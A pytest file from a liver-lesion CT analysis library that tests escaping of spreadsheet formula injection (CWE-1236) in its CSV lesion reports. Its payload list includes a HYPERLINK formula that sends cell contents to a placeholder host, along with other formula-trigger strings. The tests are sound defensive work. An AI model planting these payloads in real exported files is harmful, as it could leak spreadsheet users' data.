"""What people name things never becomes a formula in a table that a spreadsheet opens (CWE-1236)."""

import csv
import io

import numpy as np
import pytest
from fixtures.phantom import PhantomSegmenter, phantom_hu
from LiverLesionCascadeLib.engine.measures.lesion_matching import (
    NEW,
    FollowedLesion,
    FollowUpTable,
    LesionAtTime,
    follow_up_csv,
)
from LiverLesionCascadeLib.engine.measures.spreadsheet import cell_text
from LiverLesionCascadeLib.engine.reports.lesion_csv import lesion_csv
from LiverLesionCascadeLib.engine.scan.ct_volume import CTVolume

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\uff1d1", "\n=1"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_segment_named_like_a_formula_is_text_in_every_table(name):
    line = name.replace("\r", " ").replace("\n", " ")
    points = np.zeros((1, 3))
    lesion = LesionAtTime("key", name, 10.0, 1.0, points, points[0])
    found = cells(follow_up_csv(FollowUpTable((FollowedLesion(NEW, None, lesion),))))
    assert f"'{line}" in found and line not in found
    ct = CTVolume.from_array(phantom_hu(), np.diag([2.0, 2.0, 3.0, 1.0]))
    result = PhantomSegmenter().segment(ct)
    written = cells(lesion_csv(result.table, ct, {"name": {1: name}}))
    assert f"'{line}" in written and line not in written


def test_names_and_numbers_stay_as_they_are():
    for text in ("Lesion 1", "", "Läsion = 2", "1-2", "5"):
        assert cell_text(text) == text
    ct = CTVolume.from_array(phantom_hu(), np.diag([-2.0, -2.0, 3.0, 1.0]))
    result = PhantomSegmenter().segment(ct)
    assert not any("'" in cell for cell in cells(lesion_csv(result.table, ct)))
